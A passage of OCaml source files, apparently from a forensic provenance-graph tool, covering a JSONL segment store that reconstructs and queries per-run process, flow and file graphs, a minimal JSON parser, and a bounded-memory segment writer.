  | "tainted" | "netflow" | "vhi" -> if compare b a > 0 then b else a
  | "vlo" | "exit" -> if compare b a < 0 then b else a
  | "name" -> (
    match (a, b) with
    | Jsonv.Str "?", _ -> b
    | _, Jsonv.Str "?" -> a
    | _ -> if compare b a < 0 then b else a)
  | _ -> if compare b a < 0 then b else a

let merge_node_row fields kvs =
  List.iter
    (fun (k, v) ->
      match k with
      | "run" | "seq" -> ()
      | _ -> (
        match Hashtbl.find_opt fields k with
        | None -> Hashtbl.replace fields k v
        | Some old -> Hashtbl.replace fields k (merge_field k old v)))
    kvs

(* -- ingestion ------------------------------------------------------------ *)

let ingest_row t v =
  match (Jsonv.str_mem v "type", Jsonv.str_mem v "run", Jsonv.int_mem v "seq") with
  | Some typ, Some run_id, Some seq
    when typ = "graph_node" || typ = "graph_edge" || typ = "graph_segment" ->
    let r = get_run t run_id in
    if Hashtbl.mem r.r_seen seq then begin
      r.r_dups <- r.r_dups + 1;
      Ok 0
    end
    else begin
      Hashtbl.replace r.r_seen seq ();
      r.r_rows <- r.r_rows + 1;
      r.r_cache <- None;
      (match typ with
      | "graph_node" -> (
        match (Jsonv.int_mem v "ord", v) with
        | Some ord, Jsonv.Obj kvs ->
          let fields =
            match Hashtbl.find_opt r.r_nodes ord with
            | Some f -> f
            | None ->
              let f = Hashtbl.create 8 in
              Hashtbl.replace r.r_nodes ord f;
              f
          in
          merge_node_row fields kvs
        | _ -> ())
      | "graph_edge" -> (
        match
          ( Jsonv.int_mem v "eord",
            Jsonv.int_mem v "src",
            Jsonv.int_mem v "dst",
            Jsonv.str_mem v "kind" )
        with
        | Some eord, Some src, Some dst, Some kind ->
          let tick = Option.value ~default:0 (Jsonv.int_mem v "tick") in
          let last = Option.value ~default:tick (Jsonv.int_mem v "last_tick") in
          let count = Option.value ~default:1 (Jsonv.int_mem v "count") in
          let bytes = Option.value ~default:0 (Jsonv.int_mem v "bytes") in
          let key = (src, dst, kind) in
          (match Hashtbl.find_opt r.r_edges key with
          | Some e ->
            if eord < e.er_eord then e.er_eord <- eord;
            if tick < e.er_tick then e.er_tick <- tick;
            if last > e.er_last then e.er_last <- last;
            e.er_count <- e.er_count + count;
            e.er_bytes <- e.er_bytes + bytes
          | None ->
            Hashtbl.replace r.r_edges key
              {
                er_eord = eord;
                er_src = src;
                er_dst = dst;
                er_kind = kind;
                er_tick = tick;
                er_last = last;
                er_count = count;
                er_bytes = bytes;
              })
        | _ -> ())
      | _ ->
        (* graph_segment marker *)
        if Jsonv.str_mem v "event" = Some "final" then r.r_final <- true);
      Ok 1
    end
  | _ -> Ok 0 (* foreign row types (mixed telemetry streams) are fine *)

let ingest_lines t lines =
  let rec loop i added = function
    | [] -> Ok added
    | line :: rest ->
      if String.trim line = "" then loop (i + 1) added rest
      else begin
        match Jsonv.parse line with
        | Error msg -> Error (Printf.sprintf "line %d: %s" i msg)
        | Ok v -> (
          match ingest_row t v with
          | Ok k -> loop (i + 1) (added + k) rest
          | Error e -> Error (Printf.sprintf "line %d: %s" i e))
      end
  in
  loop 1 0 lines

let ingest_file t path =
  match
    let ic = open_in path in
    Fun.protect
      ~finally:(fun () -> close_in_noerr ic)
      (fun () ->
        let rec read acc =
          match input_line ic with
          | line -> read (line :: acc)
          | exception End_of_file -> List.rev acc
        in
        read [])
  with
  | exception Sys_error msg -> Error msg
  | lines -> (
    match ingest_lines t lines with
    | Ok n -> Ok n
    | Error e -> Error (Printf.sprintf "%s: %s" path e))

let load ~dir =
  match Sys.readdir dir with
  | exception Sys_error msg -> Error msg
  | entries ->
    let t = create () in
    let files =
      Array.to_list entries
      |> List.filter (fun f -> Filename.check_suffix f ".jsonl")
      |> List.sort compare
    in
    if files = [] then Error (Printf.sprintf "%s: no .jsonl segment files" dir)
    else
      let rec go = function
        | [] -> Ok t
        | f :: rest -> (
          match ingest_file t (Filename.concat dir f) with
          | Ok _ -> go rest
          | Error e -> Error e)
      in
      go files

(* -- reconstruction ------------------------------------------------------- *)

let edge_kind_of_name = function
  | "spawned" -> Some Faros_graph.Graph.Spawned
  | "suspended" -> Some Faros_graph.Graph.Suspended
  | "resumed" -> Some Faros_graph.Graph.Resumed
  | "connected" -> Some Faros_graph.Graph.Connected
  | "received" -> Some Faros_graph.Graph.Received
  | "sent" -> Some Faros_graph.Graph.Sent
  | "read" -> Some Faros_graph.Graph.Read
  | "wrote" -> Some Faros_graph.Graph.Wrote
  | "mapped" -> Some Faros_graph.Graph.Mapped
  | "injected-into" -> Some Faros_graph.Graph.Injected_into
  | "tainted-by" -> Some Faros_graph.Graph.Tainted_by
  | "flagged" -> Some Faros_graph.Graph.Flagged
  | _ -> None

let req what = function
  | Some v -> Ok v
  | None -> Error (Printf.sprintf "node row missing %s" what)

let ( let* ) r f = Result.bind r f

let field_int fields k =
  match Hashtbl.find_opt fields k with Some v -> Jsonv.to_int v | None -> None

let field_str fields k =
  match Hashtbl.find_opt fields k with Some v -> Jsonv.to_str v | None -> None

(* Intern one merged node row into [g]; with ordinal-dense rows applied
   in ordinal order the assigned id equals the ordinal. *)
let intern_node g fields =
  let open Faros_graph in
  let* kind = req "kind" (field_str fields "kind") in
  match kind with
  | "flow" ->
    let* src = req "src" (field_str fields "src") in
    let* sport = req "sport" (field_int fields "sport") in
    let* dst = req "dst" (field_str fields "dst") in
    let* dport = req "dport" (field_int fields "dport") in
    Ok
      (Graph.flow_node g
         {
           src_ip = Faros_os.Types.Ip.of_string src;
           src_port = sport;
           dst_ip = Faros_os.Types.Ip.of_string dst;
           dst_port = dport;
         })
  | "process" ->
    let* pid = req "pid" (field_int fields "pid") in
    let* name = req "name" (field_str fields "name") in
    let n = Graph.process_node g ~pid ~name in
    Option.iter (Graph.set_exit_code n) (field_int fields "exit");
    Graph.set_process_taint n
      ~tainted_bytes:(Option.value ~default:0 (field_int fields "tainted"))
      ~netflow_bytes:(Option.value ~default:0 (field_int fields "netflow"));
    Ok n
  | "file" ->
    let* name = req "name" (field_str fields "name") in
    let* vlo = req "vlo" (field_int fields "vlo") in
    let* vhi = req "vhi" (field_int fields "vhi") in
    let n = Graph.file_node g ~name ~version:vlo in
    ignore (Graph.file_node g ~name ~version:vhi);
    Ok n
  | "module" ->
    let* pid = req "pid" (field_int fields "pid") in
    let* image = req "image" (field_str fields "image") in
    let* base = req "base" (field_int fields "base") in
    Ok (Graph.module_node g ~pid ~image ~base)
  | "region" ->
    let* pid = req "pid" (field_int fields "pid") in
    let* process = req "process" (field_str fields "process") in
    let* vaddr = req "vaddr" (field_int fields "vaddr") in
    let* len = req "len" (field_int fields "len") in
    let types =
      match Hashtbl.find_opt fields "types" with
      | Some v -> Option.value ~default:[] (Jsonv.to_strings v)
      | None -> []
    in
    Ok (Graph.region_node g ~pid ~process ~vaddr ~len ~types)
  | "flag" ->
    let* process = req "process" (field_str fields "process") in
    let* pc = req "pc" (field_int fields "pc") in
    let* tick = req "tick" (field_int fields "tick") in
    Ok (Graph.flag_site_node g ~process ~pc ~tick)
  | k -> Error (Printf.sprintf "unknown node kind %S" k)

let sorted_ords r =
  Hashtbl.fold (fun ord _ acc -> ord :: acc) r.r_nodes [] |> List.sort compare

let sorted_erows r =
  Hashtbl.fold (fun _ e acc -> e :: acc) r.r_edges []
  |> List.sort (fun a b -> compare a.er_eord b.er_eord)

let reconstruct r =
  let g = Faros_graph.Graph.create ~sample:r.run_id () in
  let ords = sorted_ords r in
  let rec nodes expect = function
    | [] -> Ok ()
    | ord :: rest ->
      if ord <> expect then
        Error
          (Printf.sprintf "run %s: node ordinals not dense (missing %d)"
             r.run_id expect)
      else
        let fields = Hashtbl.find r.r_nodes ord in
        let* node = Result.map_error (Printf.sprintf "run %s ord %d: %s" r.run_id ord) (intern_node g fields) in
        if node.Faros_graph.Graph.n_id <> ord then
          Error
            (Printf.sprintf "run %s: ordinal %d interned as id %d (key clash)"
               r.run_id ord node.Faros_graph.Graph.n_id)
        else nodes (expect + 1) rest
  in
  let* () = nodes 0 ords in
  let rec edges = function
    | [] -> Ok ()
    | e :: rest -> (
      match edge_kind_of_name e.er_kind with
      | None -> Error (Printf.sprintf "run %s: unknown edge kind %S" r.run_id e.er_kind)
      | Some kind ->
        Faros_graph.Graph.record_edge g ~src:e.er_src ~dst:e.er_dst ~kind
          ~tick:e.er_tick ~last_tick:e.er_last ~count:e.er_count
          ~bytes:e.er_bytes;
        edges rest)
  in
  let* () = edges (sorted_erows r) in
  Ok g

let runs t =
  Hashtbl.fold (fun id _ acc -> id :: acc) t.runs [] |> List.sort compare

let find_run t id =
  match Hashtbl.find_opt t.runs id with
  | Some r -> Ok r
  | None -> Error (Printf.sprintf "no such run %S in store" id)

let run_graph t id =
  let* r = find_run t id in
  match r.r_cache with
  | Some g -> Ok g
  | None ->
    let* g = reconstruct r in
    r.r_cache <- Some g;
    Ok g

let ident t ~run ~ord =
  match Hashtbl.find_opt t.runs run with
  | None -> None
  | Some r -> (
    match Hashtbl.find_opt r.r_nodes ord with
    | None -> None
    | Some fields -> field_str fields "ident")

(* -- store-level stats ---------------------------------------------------- *)

type totals = {
  t_runs : int;
  t_complete : int;  (** runs whose "final" marker arrived *)
  t_rows : int;
  t_dups : int;
  t_nodes : int;
  t_edges : int;
  t_flag_runs : int;
}

let totals t =
  Hashtbl.fold
    (fun _ r acc ->
      let flagged =
        Hashtbl.fold
          (fun _ fields acc ->
            acc || field_str fields "kind" = Some "flag")
          r.r_nodes false
      in
      {
        t_runs = acc.t_runs + 1;
        t_complete = (acc.t_complete + if r.r_final then 1 else 0);
        t_rows = acc.t_rows + r.r_rows;
        t_dups = acc.t_dups + r.r_dups;
        t_nodes = acc.t_nodes + Hashtbl.length r.r_nodes;
        t_edges = acc.t_edges + Hashtbl.length r.r_edges;
        t_flag_runs = (acc.t_flag_runs + if flagged then 1 else 0);
      })
    t.runs
    {
      t_runs = 0;
      t_complete = 0;
      t_rows = 0;
      t_dups = 0;
      t_nodes = 0;
      t_edges = 0;
      t_flag_runs = 0;
    }

(* -- cross-run queries ---------------------------------------------------- *)

type origin = {
  o_ident : string;
  o_label : string;
  o_runs : string list;  (** sorted run ids whose slices reached it *)
}

let origins t =
  let by_ident : (string, string * string list ref) Hashtbl.t =
    Hashtbl.create 32
  in
  let rec walk = function
    | [] -> Ok ()
    | run_id :: rest ->
      let* g = run_graph t run_id in
      List.iter
        (fun (sl : Faros_graph.Slice.t) ->
          List.iter
            (fun (n : Faros_graph.Graph.node) ->
              let id =
                Option.value
                  ~default:(Faros_graph.Graph.node_label n)
                  (ident t ~run:run_id ~ord:n.n_id)
              in
              match Hashtbl.find_opt by_ident id with
              | Some (_, runs) ->
                if not (List.mem run_id !runs) then runs := run_id :: !runs
              | None ->
                Hashtbl.replace by_ident id
                  (Faros_graph.Graph.node_label n, ref [ run_id ]))
            sl.sl_origins)
        (Faros_graph.Slice.slices g);
      walk rest
  in
  let* () = walk (runs t) in
  Ok
    (Hashtbl.fold
       (fun id (label, rs) acc ->
         { o_ident = id; o_label = label; o_runs = List.sort compare !rs } :: acc)
       by_ident []
    |> List.sort (fun a b ->
           match compare (List.length b.o_runs) (List.length a.o_runs) with
           | 0 -> compare a.o_ident b.o_ident
           | c -> c))

type flow_hit = {
  fh_run : string;
  fh_ident : string;
  fh_label : string;
  fh_delivered : int;  (** bytes the flow delivered into processes *)
  fh_sent : int;  (** bytes processes sent back out *)
}

(* Substring match against the identity ("SRC:sport->DST:dport"); a bare
   port or host fragment works too. *)
let flows t ~spec =
  let rec walk acc = function
    | [] -> Ok (List.rev acc)
    | run_id :: rest ->
      let* g = run_graph t run_id in
      let out = Faros_graph.Graph.out_edges g in
      let in_ = Faros_graph.Graph.in_edges g in
      let hits =
        List.filter_map
          (fun (n : Faros_graph.Graph.node) ->
            match n.n_kind with
            | Faros_graph.Graph.Flow _ ->
              let id =
                Option.value
                  ~default:(Faros_graph.Graph.node_label n)
                  (ident t ~run:run_id ~ord:n.n_id)
              in
              let matches hay =
                let nh = String.length hay and ns = String.length spec in
                let rec at i =
                  i + ns <= nh && (String.sub hay i ns = spec || at (i + 1))
                in
                ns = 0 || at 0
              in
              if matches id then
                let sum =
                  List.fold_left (fun a (e : Faros_graph.Graph.edge) -> a + e.e_bytes) 0
                in
                Some
                  {
                    fh_run = run_id;
                    fh_ident = id;
                    fh_label = Faros_graph.Graph.node_label n;
                    fh_delivered = sum out.(n.n_id);
                    fh_sent = sum in_.(n.n_id);
                  }
              else None
            | _ -> None)
          (Faros_graph.Graph.nodes g)
      in
      walk (List.rev_append hits acc) rest
  in
  walk [] (runs t)

(* -- the merged view ------------------------------------------------------ *)

(* Union of every run's nodes keyed by stable identity, realized as a
   plain {!Faros_graph.Graph.t} so the DOT/JSON exporters apply as-is.
   Nodes intern in (run, ordinal) order over sorted run ids — fully
   determined by the ingested row set, so ingest order cannot show
   through.  Graph keys are narrower than identities (a pid can recur
   across runs naming different processes), so key clashes remap the
   display pid (resp. perturb the flow tuple) deterministically; the
   identity, which is what queries join on, is untouched. *)
let merged_graph t =
  let open Faros_graph in
  let g = Graph.create ~sample:"store" () in
  let by_ident : (string, Graph.node) Hashtbl.t = Hashtbl.create 256 in
  let pid_map : (string * int, int) Hashtbl.t = Hashtbl.create 64 in
  let next_pid = ref 900_000 in
  let fresh_pid () =
    while Graph.find g (Graph.K_proc !next_pid) <> None do incr next_pid done;
    !next_pid
  in
  let maps : (string, int array) Hashtbl.t = Hashtbl.create 16 in
  let rec merge_nodes = function
    | [] -> Ok ()
    | run_id :: rest ->
      let* r = find_run t run_id in
      let ords = sorted_ords r in
      let map = Array.make (List.length ords) (-1) in
      Hashtbl.replace maps run_id map;
      let rec per_ord = function
        | [] -> Ok ()
        | ord :: more ->
          let fields = Hashtbl.find r.r_nodes ord in
          let* id = req "ident" (field_str fields "ident") in
          let* node =
            match Hashtbl.find_opt by_ident id with
            | Some n -> Ok n
            | None ->
              let* kind = req "kind" (field_str fields "kind") in
              let remapped k =
                match field_int fields k with
                | Some pid -> (
                  match Hashtbl.find_opt pid_map (run_id, pid) with
                  | Some pid' -> Some pid'
                  | None -> Some pid)
                | None -> None
              in
              let* n =
                match kind with
                | "process" -> (
                  let* pid = req "pid" (field_int fields "pid") in
                  let* name = req "name" (field_str fields "name") in
                  let pid' =
                    if Graph.find g (Graph.K_proc pid) = None then pid
                    else fresh_pid ()
                  in
                  Hashtbl.replace pid_map (run_id, pid) pid';
                  let n = Graph.process_node g ~pid:pid' ~name in
                  Option.iter (Graph.set_exit_code n) (field_int fields "exit");
                  Graph.set_process_taint n
                    ~tainted_bytes:
                      (Option.value ~default:0 (field_int fields "tainted"))
                    ~netflow_bytes:
                      (Option.value ~default:0 (field_int fields "netflow"));
                  Ok n)
                | "flow" ->
                  let* src = req "src" (field_str fields "src") in
                  let* sport = req "sport" (field_int fields "sport") in
                  let* dst = req "dst" (field_str fields "dst") in
                  let* dport = req "dport" (field_int fields "dport") in
                  let rec place k =
                    let f =
                      {
                        Faros_os.Types.src_ip = Faros_os.Types.Ip.of_string src;
                        src_port = sport + (k * 100_000);
                        dst_ip = Faros_os.Types.Ip.of_string dst;
                        dst_port = dport;
                      }
                    in
                    if Graph.find g (Graph.K_flow f) = None then
                      Graph.flow_node g f
                    else place (k + 1)
                  in
                  Ok (place 0)
                | "region" ->
                  let* pid = req "pid" (remapped "pid") in
                  let* process = req "process" (field_str fields "process") in
                  let* vaddr = req "vaddr" (field_int fields "vaddr") in
                  let* len = req "len" (field_int fields "len") in
                  let types =
                    match Hashtbl.find_opt fields "types" with
                    | Some v -> Option.value ~default:[] (Jsonv.to_strings v)
                    | None -> []
                  in
                  Ok (Graph.region_node g ~pid ~process ~vaddr ~len ~types)
                | "module" ->
                  let* pid = req "pid" (remapped "pid") in
                  let* image = req "image" (field_str fields "image") in
                  let* base = req "base" (field_int fields "base") in
                  Ok (Graph.module_node g ~pid ~image ~base)
                | _ -> intern_node g fields
              in
              Hashtbl.replace by_ident id n;
              Ok n
          in
          map.(ord) <- node.Graph.n_id;
          per_ord more
      in
      let* () =
        Result.map_error (Printf.sprintf "run %s: %s" run_id) (per_ord ords)
      in
      merge_nodes rest
  in
  let* () = merge_nodes (runs t) in
  List.iter
    (fun run_id ->
      match (Hashtbl.find_opt t.runs run_id, Hashtbl.find_opt maps run_id) with
      | Some r, Some map ->
        List.iter
          (fun e ->
            match edge_kind_of_name e.er_kind with
            | Some kind
              when e.er_src < Array.length map && e.er_dst < Array.length map
                   && map.(e.er_src) >= 0 && map.(e.er_dst) >= 0 ->
              Graph.record_edge g ~src:map.(e.er_src) ~dst:map.(e.er_dst) ~kind
                ~tick:e.er_tick ~last_tick:e.er_last ~count:e.er_count
                ~bytes:e.er_bytes
            | _ -> ())
          (sorted_erows r)
      | _ -> ())
    (runs t);
  Ok g
