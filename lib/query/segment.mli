(** The bounded-memory graph consumer: {!Faros_graph.Delta} stream in,
    JSONL segment rows out through {!Faros_obs.Sink}.

    Keeps only the live subgraph resident (un-retired nodes, coalesced
    edges touching them) and spills rows on retirement, so resident size
    is O(live entities) rather than O(trace length).  Attribute deltas
    for already-spilled nodes become patch rows; re-observed edges start
    fresh rows — the store re-merges both at read time, making segment
    splits invisible.  Every row carries (run, seq) as the idempotence
    key, and edge rows a writer-local creation ordinal whose min-merge
    recovers resident edge insertion order. *)

type t

type stats = {
  st_spilled_nodes : int;  (** full node rows written *)
  st_spilled_edges : int;
  st_patch_rows : int;
  st_peak_live_nodes : int;  (** the bounded-memory claim, measured *)
  st_peak_live_edges : int;
  st_rows : int;  (** all rows including markers *)
  st_segments : int;
}

val writer : ?seg_rows:int -> sink:Faros_obs.Sink.t -> run:string -> unit -> t
(** A writer spilling to [sink] under run id [run].  Segments rotate
    (an ["end"] marker) every [seg_rows] rows (default 2048). *)

val consume : t -> Faros_graph.Delta.t -> unit
(** Feed one delta — wire as [Build.create ~consumer:(Segment.consume w)]. *)

val close : t -> unit
(** Drain every still-live node and edge (deterministic order: nodes by
    ordinal, edges by creation ordinal) and write the ["final"] marker.
    Idempotent. *)

val run : t -> string
val live_nodes : t -> int
val live_edges : t -> int
val stats : t -> stats
