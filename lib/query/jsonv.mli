(** Minimal JSON values for the segment reader.

    The smallest recursive-descent parser that round-trips what this
    repo's hand-rendering emitters write; the store uses it to read
    graph segment rows back.  Not a general-purpose JSON library — no
    streaming, surrogate pairs unhandled — but total: malformed input
    returns [Error] with a byte offset, never raises. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | List of t list
  | Obj of (string * t) list

val parse : string -> (t, string) result

val mem : t -> string -> t option
(** Object member lookup; [None] on non-objects. *)

val to_int : t -> int option
val to_str : t -> string option
val to_strings : t -> string list option

val int_mem : t -> string -> int option
val str_mem : t -> string -> string option

val render : t -> string
(** Back to compact JSON (object member order preserved). *)
