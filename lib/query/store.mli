(** The streaming forensic store: graph segment rows in, cross-campaign
    queries out.

    Ingestion is row-by-row, order-insensitive and idempotent: rows are
    deduplicated on their (run, seq) key and merged under commutative,
    associative operators, so any shuffle (or re-ingestion) of segment
    files produces the same store and byte-identical query output.

    Per-run reconstruction rebuilds the producing run's resident graph
    exactly — node ordinals are dense first-encounter ids and edge rows
    replay in creation-ordinal order — so whodunit slices over the store
    match slices over the live graph byte for byte.  Cross-run queries
    ({!origins}, {!flows}, {!merged_graph}) join runs on the stable
    identity strings carried by node rows. *)

type t

val create : unit -> t

val ingest_lines : t -> string list -> (int, string) result
(** Ingest JSONL rows (foreign row types are skipped — a mixed telemetry
    stream is fine).  Returns the number of new (non-duplicate) graph
    rows; on a malformed line, rows before it remain ingested. *)

val ingest_file : t -> string -> (int, string) result

val load : dir:string -> (t, string) result
(** A store over every [*.jsonl] file in [dir] (sorted name order —
    though any order would produce the same store). *)

val runs : t -> string list
(** Ingested run ids, sorted. *)

val run_graph : t -> string -> (Faros_graph.Graph.t, string) result
(** Reconstruct (and cache) one run's resident graph. *)

val ident : t -> run:string -> ord:int -> string option
(** The stable identity recorded for a node ordinal of a run. *)

type totals = {
  t_runs : int;
  t_complete : int;  (** runs whose "final" marker arrived *)
  t_rows : int;
  t_dups : int;
  t_nodes : int;
  t_edges : int;
  t_flag_runs : int;  (** runs containing at least one flag site *)
}

val totals : t -> totals

type origin = {
  o_ident : string;
  o_label : string;
  o_runs : string list;  (** sorted run ids whose slices reached it *)
}

val origins : t -> (origin list, string) result
(** Every slice origin across every run, grouped by stable identity and
    ranked by the number of runs reached (ties by identity). *)

type flow_hit = {
  fh_run : string;
  fh_ident : string;
  fh_label : string;
  fh_delivered : int;  (** bytes the flow delivered into processes *)
  fh_sent : int;  (** bytes processes sent back out *)
}

val flows : t -> spec:string -> (flow_hit list, string) result
(** Flow nodes whose identity contains [spec] (["SRC:sport->DST:dport"],
    or any fragment of it), per run in sorted run order. *)

val merged_graph : t -> (Faros_graph.Graph.t, string) result
(** The cross-run union keyed by stable identity, as a plain graph the
    DOT/JSON exporters accept.  Deterministic in the ingested row set;
    process display pids come from the first run carrying the identity
    (clashing pids from later runs are remapped, identities are not). *)
