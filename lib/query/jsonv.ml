(* A minimal JSON value parser for the segment reader.

   The repo deliberately has no JSON dependency — producers render JSON
   by hand and [Faros_obs.Json.well_formed] checks shape without
   building values.  The store is the first consumer that has to read
   its own rows back, so here is the smallest recursive-descent parser
   that round-trips what our emitters write (objects, arrays, strings
   with the escapes [Faros_obs.Json.escape] produces, ints, floats,
   bools, null).  Errors return [Error msg] with a byte offset — segment
   files cross process boundaries, so a truncated line must degrade into
   a diagnostic, not an exception. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | List of t list
  | Obj of (string * t) list

exception Fail of int * string

let fail pos msg = raise (Fail (pos, msg))

let parse s =
  let n = String.length s in
  let pos = ref 0 in
  let peek () = if !pos < n then Some s.[!pos] else None in
  let advance () = incr pos in
  let skip_ws () =
    while
      !pos < n && (match s.[!pos] with ' ' | '\t' | '\n' | '\r' -> true | _ -> false)
    do
      advance ()
    done
  in
  let expect c =
    match peek () with
    | Some c' when c' = c -> advance ()
    | _ -> fail !pos (Printf.sprintf "expected '%c'" c)
  in
  let parse_string () =
    expect '"';
    let buf = Buffer.create 16 in
    let rec loop () =
      if !pos >= n then fail !pos "unterminated string"
      else
        match s.[!pos] with
        | '"' -> advance ()
        | '\\' ->
          advance ();
          (if !pos >= n then fail !pos "unterminated escape"
           else
             match s.[!pos] with
             | '"' -> Buffer.add_char buf '"'; advance ()
             | '\\' -> Buffer.add_char buf '\\'; advance ()
             | '/' -> Buffer.add_char buf '/'; advance ()
             | 'b' -> Buffer.add_char buf '\b'; advance ()
             | 'f' -> Buffer.add_char buf '\012'; advance ()
             | 'n' -> Buffer.add_char buf '\n'; advance ()
             | 'r' -> Buffer.add_char buf '\r'; advance ()
             | 't' -> Buffer.add_char buf '\t'; advance ()
             | 'u' ->
               advance ();
               if !pos + 4 > n then fail !pos "truncated \\u escape";
               let code =
                 try int_of_string ("0x" ^ String.sub s !pos 4)
                 with _ -> fail !pos "bad \\u escape"
               in
               pos := !pos + 4;
               (* UTF-8 encode the BMP codepoint (our emitters only
                  produce \u00XX for control bytes) *)
               if code < 0x80 then Buffer.add_char buf (Char.chr code)
               else if code < 0x800 then begin
                 Buffer.add_char buf (Char.chr (0xC0 lor (code lsr 6)));
                 Buffer.add_char buf (Char.chr (0x80 lor (code land 0x3F)))
               end
               else begin
                 Buffer.add_char buf (Char.chr (0xE0 lor (code lsr 12)));
                 Buffer.add_char buf (Char.chr (0x80 lor ((code lsr 6) land 0x3F)));
                 Buffer.add_char buf (Char.chr (0x80 lor (code land 0x3F)))
               end
             | c -> fail !pos (Printf.sprintf "bad escape '\\%c'" c));
          loop ()
        | c -> Buffer.add_char buf c; advance (); loop ()
    in
    loop ();
    Buffer.contents buf
  in
  let parse_number () =
    let start = !pos in
    let is_float = ref false in
    while
      !pos < n
      && (match s.[!pos] with
         | '0' .. '9' | '-' | '+' -> true
         | '.' | 'e' | 'E' -> is_float := true; true
         | _ -> false)
    do
      advance ()
    done;
    let tok = String.sub s start (!pos - start) in
    if !is_float then
      match float_of_string_opt tok with
      | Some f -> Float f
      | None -> fail start "bad number"
    else
      match int_of_string_opt tok with
      | Some i -> Int i
      | None -> fail start "bad number"
  in
  let parse_lit lit v =
    if !pos + String.length lit <= n && String.sub s !pos (String.length lit) = lit
    then begin
      pos := !pos + String.length lit;
      v
    end
    else fail !pos ("expected " ^ lit)
  in
  let rec parse_value () =
    skip_ws ();
    match peek () with
    | None -> fail !pos "unexpected end of input"
    | Some '"' -> Str (parse_string ())
    | Some '{' ->
      advance ();
      skip_ws ();
      if peek () = Some '}' then begin advance (); Obj [] end
      else begin
        let rec members acc =
          skip_ws ();
          let k = parse_string () in
          skip_ws ();
          expect ':';
          let v = parse_value () in
          skip_ws ();
          match peek () with
          | Some ',' -> advance (); members ((k, v) :: acc)
          | Some '}' -> advance (); List.rev ((k, v) :: acc)
          | _ -> fail !pos "expected ',' or '}'"
        in
        Obj (members [])
      end
    | Some '[' ->
      advance ();
      skip_ws ();
      if peek () = Some ']' then begin advance (); List [] end
      else begin
        let rec elements acc =
          let v = parse_value () in
          skip_ws ();
          match peek () with
          | Some ',' -> advance (); elements (v :: acc)
          | Some ']' -> advance (); List.rev (v :: acc)
          | _ -> fail !pos "expected ',' or ']'"
        in
        List (elements [])
      end
    | Some 't' -> parse_lit "true" (Bool true)
    | Some 'f' -> parse_lit "false" (Bool false)
    | Some 'n' -> parse_lit "null" Null
    | Some ('-' | '0' .. '9') -> parse_number ()
    | Some c -> fail !pos (Printf.sprintf "unexpected '%c'" c)
  in
  match
    let v = parse_value () in
    skip_ws ();
    if !pos <> n then fail !pos "trailing garbage";
    v
  with
  | v -> Ok v
  | exception Fail (p, msg) -> Error (Printf.sprintf "byte %d: %s" p msg)

(* -- accessors -- *)

let mem v key =
  match v with Obj kvs -> List.assoc_opt key kvs | _ -> None

let to_int = function Int i -> Some i | _ -> None
let to_str = function Str s -> Some s | _ -> None

let to_strings = function
  | List l ->
    let strs = List.filter_map to_str l in
    if List.length strs = List.length l then Some strs else None
  | _ -> None

let int_mem v key = Option.bind (mem v key) to_int
let str_mem v key = Option.bind (mem v key) to_str

let rec render = function
  | Null -> "null"
  | Bool b -> if b then "true" else "false"
  | Int i -> string_of_int i
  | Float f -> Printf.sprintf "%g" f
  | Str s -> Printf.sprintf {|"%s"|} (Faros_obs.Json.escape s)
  | List l -> "[" ^ String.concat "," (List.map render l) ^ "]"
  | Obj kvs ->
    "{"
    ^ String.concat ","
        (List.map
           (fun (k, v) ->
             Printf.sprintf {|"%s":%s|} (Faros_obs.Json.escape k) (render v))
           kvs)
    ^ "}"
