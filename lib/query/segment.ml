(* The bounded-memory graph consumer: a {!Faros_graph.Delta} stream in,
   JSONL segment rows out.

   The writer keeps only the *live* subgraph resident — nodes not yet
   retired, plus the coalesced edges touching them — and spills rows
   through {!Faros_obs.Sink} the moment the builder signals quiescence
   (a closed flow, an exited process).  On a long server trace the live
   set is the handful of open connections and running processes, not the
   thousands the trace accumulated: resident size is O(live entities).

   Spilling is lossless with respect to the resident graph:

   - a node row carries the ordinal (= resident node id), the stable
     identity, the kind and all attributes at spill time;
   - attribute deltas arriving *after* a node was spilled (offline
     enrichment touches exited processes) become patch rows — ordinal
     plus changed fields only — merged back at read time, so the writer
     never keeps tombstones;
   - an edge re-observed after its row was flushed starts a fresh live
     edge; the store re-merges the rows by (src, dst, kind), so splits
     across segments are invisible.

   Every row carries (run, per-run sequence number): the idempotence key
   re-ingestion deduplicates on.  Edge rows also carry a writer-local
   creation ordinal [eord]; its absolute value is meaningless, but
   min-merging it recovers the resident graph's edge insertion order. *)

type live_node = {
  ln_ord : int;
  ln_ident : string;
  ln_seed : Faros_graph.Delta.seed;
  mutable ln_name : string;  (* processes: latest name *)
  mutable ln_exit : int option;
  mutable ln_tainted : int;
  mutable ln_netflow : int;
  mutable ln_vlo : int;  (* files: version range *)
  mutable ln_vhi : int;
}

type live_edge = {
  le_eord : int;
  le_src : int;
  le_dst : int;
  le_kind : Faros_graph.Graph.edge_kind;
  le_tick : int;
  mutable le_last : int;
  mutable le_count : int;
  mutable le_bytes : int;
}

type edge_key = int * int * Faros_graph.Graph.edge_kind

(* Growable bitset over dense ordinals: the "already spilled?" record
   costs one bit per entity ever seen instead of a hashtable entry, so
   the only per-total-entity state in a writer is negligible next to the
   live subgraph. *)
module Bits = struct
  type t = { mutable bytes : Bytes.t }

  let create () = { bytes = Bytes.make 64 '\000' }

  let ensure t i =
    let need = (i / 8) + 1 in
    if need > Bytes.length t.bytes then begin
      let b = Bytes.make (max need (2 * Bytes.length t.bytes)) '\000' in
      Bytes.blit t.bytes 0 b 0 (Bytes.length t.bytes);
      t.bytes <- b
    end

  let add t i =
    ensure t i;
    let j = i / 8 in
    Bytes.set t.bytes j
      (Char.chr (Char.code (Bytes.get t.bytes j) lor (1 lsl (i mod 8))))

  let mem t i =
    i / 8 < Bytes.length t.bytes
    && Char.code (Bytes.get t.bytes (i / 8)) land (1 lsl (i mod 8)) <> 0
end

type stats = {
  st_spilled_nodes : int;
  st_spilled_edges : int;
  st_patch_rows : int;
  st_peak_live_nodes : int;
  st_peak_live_edges : int;
  st_rows : int;
  st_segments : int;
}

type t = {
  w_sink : Faros_obs.Sink.t;
  w_run : string;
  w_seg_rows : int;  (* rotation threshold *)
  mutable w_seq : int;
  mutable w_rows_in_seg : int;
  mutable w_seg_nodes : int;  (* rows in the open segment *)
  mutable w_seg_edges : int;
  mutable w_segments : int;
  w_nodes : (int, live_node) Hashtbl.t;  (* by ordinal *)
  w_edges : (edge_key, live_edge) Hashtbl.t;
